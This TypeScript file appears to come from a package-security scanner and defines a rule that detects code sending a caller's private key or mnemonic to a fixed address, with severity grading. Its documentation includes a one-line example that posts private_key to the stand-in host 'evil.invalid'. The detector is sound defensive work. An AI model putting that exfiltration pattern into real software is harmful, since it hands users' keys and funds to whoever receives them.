import { isCollecting, isOpenMessenger } from '../facts/collecting-places.js';
import { count, type Label } from '../values/labels.js';
import { type Combination, IDENTITY, isUnheard } from './combination.js';

/** What an account may come from that is not the caller's. */
const FROM_SOURCE: readonly Label[] = ['decoded', 'computed', 'shipped', 'file', 'picture'];

export const keyParameterSent: Combination = {
  doc: {
    id: 'key-parameter-sent',
    title: 'Sends a key that the caller hands in to a fixed address',
    why: 'Private keys and mnemonics are used locally; whoever receives one owns the account.',
    remedy: 'Do not use the package; move funds if a key was passed to it.',
    example: 'def sign(private_key): requests.post("https://evil.invalid", data=private_key)',
    technique: 'T1552',
  },
  judge: (sighting) => {
    const { behaviour, labels, host, text, isDropped, isHidden } = sighting;
    if (behaviour !== 'contacts' || host === undefined || !labels.has('key-parameter')) return undefined;
    // Whose account it goes to says whoever hands in the key.
    const isOwners =
      labels.has('parameter') && isOpenMessenger(text ?? '') && count(labels, FROM_SOURCE) === 0;
    if (isOwners && isHidden !== true) return 'LOW';
    // Nobody is to know of the address either.
    if (isHidden === true && isDropped === true) return 'CRITICAL';
    // Who and where the owner is goes along, or nobody looks at what comes back.
    const isTold = count(labels, IDENTITY) > 0 || isUnheard(sighting);
    return isTold || isCollecting(text ?? '') || labels.has('own-account') ? 'CRITICAL' : 'HIGH';
  },
  message: ({ name }) => `${name} sends a key handed in by the caller to a fixed address`,
};
